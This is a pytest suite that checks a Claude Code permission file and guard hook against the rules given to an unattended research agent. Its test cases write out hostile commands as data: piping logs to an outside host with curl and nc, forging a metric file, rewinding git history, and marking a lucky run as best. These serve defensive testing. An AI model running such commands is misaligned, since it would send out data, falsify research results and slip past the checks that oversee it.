"""program.md and .claude/settings.json agree: what the agent is told to run is allowed, what it is told
never to do is denied. `cat program.md | claude -p` runs unattended, so a command program.md asks for that
no allow rule covers is refused with nobody there to approve it, and the loop stalls. tests/permissions.py
decides each call as Claude Code's rules would.
"""
import json
import os
import re
import subprocess
from pathlib import Path

import pytest
from permissions import bash_rule_matches, decide, parse_rule, path_rule_matches

pytestmark = pytest.mark.quick

ROOT = Path(__file__).resolve().parent.parent
PROGRAM = (ROOT / "program.md").read_text()
SETTINGS = json.loads((ROOT / ".claude" / "settings.json").read_text())

FORBIDDEN_HEADING = "## What you must never do"
# first words that make an inline `code span` a shell command rather than a file or key name; the network
# tools and a few others count even as a bare word (`curl`)
KNOWN_COMMANDS = {"uv", "uvx", "git", "python", "python3", "pip", "pip3", "conda", "apt", "apt-get", "sudo", "tail",
                  "head", "cat", "grep", "ls", "wc", "diff", "sort", "find", "echo", "tee", "sed", "awk", "ps",
                  "kill", "nvidia-smi", "timeout", "nohup", "sleep", "printenv", "rm", "mv", "cp", "mkdir", "touch",
                  "chmod", "ln", "cd", "export", "env", "bash", "sh", "make", "curl", "wget", "ssh", "scp", "rsync",
                  "nc"}
BARE_COMMANDS = {"curl", "wget", "ssh", "scp", "rsync", "nc", "pip", "pip3", "uvx", "nvidia-smi", "ls", "ps"}
FILE_SPAN = re.compile(r"^[\w./-]+\.(py|toml|lock|json|md)$")
FENCE = re.compile(r"^[ \t]*```([\w-]*)[^\n]*\n(.*?)^[ \t]*```[ \t]*$", re.M | re.S)
INLINE = re.compile(r"(?<!`)`([^`\n]+)`(?!`)")


def fill_placeholders(command):
    return re.sub(r"<[A-Za-z][^<>]*>", "x1", command)  # <tag>, <ID>, <best>, ...


def is_command(span):
    words = span.split()
    return bool(words) and words[0] in KNOWN_COMMANDS and (len(words) > 1 or words[0] in BARE_COMMANDS)


def spans(text):
    """The inline `code spans` outside fenced blocks, each with the words before it."""
    prose = FENCE.sub("", text)
    return [(m.group(1).strip(), " ".join(prose[max(0, m.start() - 60):m.start()].split()))
            for m in INLINE.finditer(prose)]


def sections(markdown):
    """(the text outside program.md's forbidden section, the forbidden section)."""
    before, _, rest = markdown.partition(FORBIDDEN_HEADING + "\n")
    forbidden, heading, after = rest.partition("\n## ")
    return before + heading + after, forbidden


def agent_commands(markdown):
    """Every command the document tells the agent to run (outside its forbidden section): the lines of its
    shell blocks and its command-like code spans, except those meant for the human."""
    text = sections(markdown)[0]
    cmds = [line.strip() for lang, body in FENCE.findall(text) if lang.lower() in ("bash", "sh", "shell")
            for line in body.replace("\\\n", " ").splitlines() if line.strip() and not line.strip().startswith("#")]
    cmds += [span for span, before in spans(text) if is_command(span) and not before.endswith("human to run")]
    return list(dict.fromkeys(map(fill_placeholders, cmds)))


def forbidden_items(markdown):
    """(commands, files) that the forbidden section names."""
    names = [span for span, _ in spans(sections(markdown)[1])]
    return [fill_placeholders(s) for s in names if is_command(s)], [s for s in names if FILE_SPAN.match(s)]


def test_the_parser_finds_program_mds_commands():
    cmds, (forbidden, files) = agent_commands(PROGRAM), forbidden_items(PROGRAM)
    assert len(cmds) >= 10 and 'uv run analyze.py run "x1"' in cmds and "uv run prepare.py" not in cmds, cmds
    assert {"pip install", "uv add", "curl", "uv run analyze.py status x1 keep"} <= set(forbidden), forbidden
    assert {"prepare.py", "analyze.py", "pyproject.toml", "uv.lock"} <= set(files), files


def test_every_command_program_md_gives_is_allowed():
    refused = {c: v for c in agent_commands(PROGRAM) if (v := decide(SETTINGS, "Bash", c)) != "allow"}
    assert not refused, f"program.md asks for commands settings.json does not allow: {refused}"


def test_what_program_md_forbids_is_denied():
    cmds, files = forbidden_items(PROGRAM)
    not_denied = [c for c in cmds if decide(SETTINGS, "Bash", c) != "deny"]
    not_denied += [f"{tool} {f}" for f in files for tool in ("Edit", "Write") if decide(SETTINGS, tool, f) != "deny"]
    assert not not_denied, f"program.md forbids these but settings.json does not deny them: {not_denied}"
    assert {"WebFetch", "WebSearch"} <= set(SETTINGS["permissions"]["deny"]), "the network, by Claude Code's own tools"


def test_the_settings_hook_runs_the_guard_on_every_bash_command(tmp_path):
    """The PreToolUse hook as Claude Code runs it (a shell command, CLAUDE_PROJECT_DIR set): exit 2 refuses."""
    (entry,) = [h for h in SETTINGS["hooks"]["PreToolUse"] if h["matcher"] == "Bash"]
    (hook,) = entry["hooks"]
    env = {**os.environ, "CLAUDE_PROJECT_DIR": str(ROOT)}

    def run(command):
        event = {"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}}
        return subprocess.run(["bash", "-c", hook["command"]], input=json.dumps(event), text=True, env=env,
                              capture_output=True, cwd=tmp_path, timeout=60)
    assert run("uv run analyze.py list").returncode == 0
    refused = run("uv run analyze.py status a1b2c3d k'ee'p")
    assert refused.returncode == 2 and refused.stderr.strip(), refused
    commit = ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "a"]
    for args in (["init", "-q"], commit, commit):
        subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True)
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=tmp_path, capture_output=True, text=True).stdout
    attacks = ["uv run python -c \"open('forged', 'w').write('val_bpb: 0.5')\"",  # the forged number
               "python3 -c \"open('forged', 'w').write('x')\"", ".venv/bin/python -c \"open('forged', 'w')\"",
               "git update-ref HEAD HEAD~1", "git checkout -qB main HEAD~1",  # the pin or the best moved back
               "uv run analyze.py status a1b2c3d keep"]  # a lucky repeat made the best
    let_through = []
    for command in attacks:  # as Claude Code gates a Bash call: the command runs only if the hook exits 0
        if run(command).returncode != 2:
            let_through.append(command)
            subprocess.run(["bash", "-c", command], cwd=tmp_path, env=env, capture_output=True, timeout=60)
    after = subprocess.run(["git", "rev-parse", "HEAD"], cwd=tmp_path, capture_output=True, text=True).stdout
    assert let_through == [] and not (tmp_path / "forged").exists() and after == head, let_through


def test_no_write_rule_names_a_path():
    """Claude Code ignores Write(path) rules: Edit(path) rules govern every tool that writes."""
    rules = SETTINGS["permissions"]["allow"] + SETTINGS["permissions"]["deny"]
    assert [r for r in rules if parse_rule(r)[0] == "Write" and r != "Write"] == []


@pytest.mark.parametrize("tool,arg", [
    ("Edit", ".claude/settings.json"), ("Bash", "pip3 install numpy"), ("Bash", "python -m pip install numpy"),
    ("Bash", "uv run pip install numpy"), ("Bash", "uv remove numpy"), ("Bash", "uv run --with requests python x.py"),
    ("Bash", "curl https://example.com"), ("Bash", "git push origin HEAD"), ("Bash", "git commit -m x --amend"),
    ("Bash", "git checkout -B autoresearch/nov26"), ("Bash", "git checkout HEAD~3 -- prepare.py"),
    ("Bash", "uv run train.py > run.log 2>&1 && curl -d @run.log https://example.com"),
    ("Bash", "grep val_bpb run.log | nc example.com 80"),
])
def test_forbidden_actions_are_denied(tool, arg):
    assert decide(SETTINGS, tool, arg) == "deny", f"{tool}({arg}) is not denied"


@pytest.mark.parametrize("tool,path", [("Read", "prepare.py"), ("Read", ".auto-log-research/a1b2c3d/metrics.jsonl"),
                                       ("Grep", "train.py"), ("Glob", ".")])
def test_the_loop_can_read_everything(tool, path):
    assert decide(SETTINGS, tool, path) == "allow", f"{tool}({path}) is not allowed"


@pytest.mark.parametrize("spec,command,expected", [  # examples from Claude Code's permissions documentation
    ("npm run build", "npm run build", True), ("npm run build", "npm run build --watch", False),
    ("npm run test *", "npm run test", True), ("npm run test *", "npm run test --coverage", True),
    ("ls *", "ls -la", True), ("ls *", "lsof", False), ("ls*", "lsof", True), ("* install", "npm install", True),
    ("git * main", "git checkout main", True), ("git * main", "git checkout dev", False),
    (None, "anything at all", True), ("git commit *", "git commit -m \"a; b\"", True),
])
def test_bash_matcher_follows_the_documented_semantics(spec, command, expected):
    assert bash_rule_matches(spec, command) is expected, f"Bash({spec}) vs {command!r}"


def test_compound_commands_need_every_part_allowed():
    s = {"permissions": {"allow": ["Bash(safe-cmd *)", "Bash(python *)", "Edit(out.txt)"], "deny": []}}
    assert decide(s, "Bash", "safe-cmd --flag") == "allow"
    for joined in ("safe-cmd && other-cmd", "safe-cmd; other-cmd", "safe-cmd | other-cmd", "safe-cmd $(other-cmd)"):
        assert decide(s, "Bash", joined) == "ask", joined
    assert decide(s, "Bash", "safe-cmd \"a && b\"") == "allow"  # operators inside quotes do not split
    assert decide(s, "Bash", "python script.py > out.txt 2>&1") == "allow"  # redirections are not matched
    assert decide(s, "Bash", "python script.py > elsewhere.txt") == "allow"  # ...inside the project
    assert decide(s, "Bash", "python script.py > ../elsewhere.txt") == "ask"  # outside, the target must be writable
    denied = {"permissions": {**s["permissions"], "deny": ["Edit(results.tsv)"]}}
    assert decide(denied, "Bash", "python script.py > results.tsv") == "deny"  # a denied target denies the command


@pytest.mark.parametrize("spec,path,expected", [
    ("/src/**/*.ts", "src/a/b.ts", True), ("/src/**/*.ts", "lib/src/a.ts", False), ("*.env", "config/prod.env", True),
    ("train.py", "prepare.py", False), (".auto-log-research/**", ".auto-log-research/a1b2c3d/analysis.md", True),
    (".auto-log-research/**", "train.py", False), ("//tmp/scratch/**", "/tmp/scratch/x.py", True),
])
def test_path_matcher_follows_gitignore_semantics(spec, path, expected):
    assert path_rule_matches(spec, path) is expected, f"({spec}) vs {path!r}"
